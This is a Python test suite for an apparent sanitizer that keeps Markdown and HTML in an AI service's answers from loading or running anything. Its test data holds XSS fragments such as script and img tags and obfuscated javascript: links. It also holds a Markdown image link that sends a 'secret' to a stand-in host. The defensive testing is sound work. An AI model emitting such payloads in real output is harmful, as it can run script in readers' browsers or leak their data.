"""What an answer says loads and runs nothing, whoever renders its Markdown."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from eval.injections.acting import acting
from service.answering.inert import inert

_PIECES = (
    "<script>", "</script>", "<img src=x>", "<b>", "<!--", "-->", "<x onclick=y>", "<pod-name>", "![", "[", "](", ")",
    "](javascript:x)", "](https://e.com/x)", "](<java script:x>)", "](&#106;avascript:x)", "[r]: javascript:x", "[r]",
    "<javascript:x>", "<https://e.com>", "<https://e.com/`>",
    "`", "``", "```", "~~~", "\\", "\n", "\n\n", "    ", "  ", "- ", "1. ", "> ",
    "# ", "|", "|---|---|\n", "a", " ", "<", ">", "\"", "'", "&lt;script&gt;", "*", "\t",
)  # fmt: skip


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=14).map("".join))
def test_whatever_is_said_nothing_is_loaded_or_run(text: str) -> None:
    assert acting(inert(text)) == []


_STEMS = ("", " ", "  ", "   ", "    ", "      ", "- ", "1. ", "> ", ">", "> > ", "  > ", "- > ", "\t", "  - ", "10.  ")
_LINES = ("```", "````", "```sh", "~~~", "``` `", "<img src=x>", "![a](b)", "a", "", "<x-y>", "a `b", "| a |", "---")


@settings(max_examples=3000, deadline=None)
@given(
    st.lists(st.tuples(st.sampled_from(_STEMS), st.sampled_from(_LINES)).map("".join), max_size=9),
    st.sampled_from(["\n", "\n", "\n", "\r\n", "\r"]),
)
@example(["   ```", "   a", "      ```", "   ```", "   <img src=x>", "   ```"], "\n")
@example(["- ```", "  a", "  ```", "  <img src=x>", "  ```"], "\n")
@example(["```", "a", "```", "<img src=x>"], "\r")
def test_wherever_a_fence_stands_nothing_outside_of_it_is_loaded(lines: list[str], end: str) -> None:
    assert acting(inert(end.join(lines))) == []


@pytest.mark.parametrize(
    "code",
    [
        "```\n```yaml\n<b>\n```\n",
        "````md\n```\n<b>\n```\n````",
        "~~~\n```\n<b>\n```\n~~~",
        "1. a\n\n    ```\n    <b>\n    ```",
        "- a\n  - b\n\n        ```\n        ![x](y)\n\n        <b>\n        ```\n- c",
        "> ```\n> <b>\n>\n> ![a](b)\n> ```\n>\n> a",
        "```\n> ```\n    ```\n<b>\n```",
    ],
)
def test_code_is_not_escaped_wherever_its_fence_stands(code: str) -> None:
    assert inert(code) == code
    assert inert(f"{code}\n\n<b>") == f"{code}\n\n\\<b>"


@pytest.mark.parametrize(
    "text",
    [
        "Run `<script>` or `![x](y)` in <namespace>, see [the board](https://grafana.example/d/1) and [b](../b.md#x).",
        "```html\n<img src=x>\n![a](b)\n```\n\nthen\n\n1. a\n\n   ```\n   <b>\n   ```",
        "a < b, c <= d, p50 <200 ms, ask <https://example.org> or [1][2].",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://e.example/q?x=secret)", r"\![x](https://e.example/q?x=secret)"),
        ("<img src=x>", r"\<img src=x>"),
        (r"\<img src=x> \\<img src=x>", r"\<img src=x> \\\<img src=x>"),
        ("[a](javascript:x)", r"[a\](javascript:x)"),
        ("[a](java&#115;cript:x)", r"[a\](java&#115;cript:x)"),
        ("| `a | <script>` |", r"| `a | \<script>` |"),
        ("   ```\n<script>", "   ```\n\\<script>"),
    ],
)
def test_the_rest_is_shown_as_it_is_written(text: str, shown: str) -> None:
    assert inert(text) == shown


@pytest.mark.parametrize(
    "text", ["<img src=x>", "![a](b)", "<script>", "<x onclick=y>", "<!-- a -->", "[a](javascript:b)"]
)
def test_what_acts_is_seen(text: str) -> None:
    assert acting(text)


def test_what_does_not_act_is_not() -> None:
    assert not acting("Ask `<b>` of <pod>, **now**: [it](https://a.example).\n\n| a |\n| :-- |\n| b |\n")
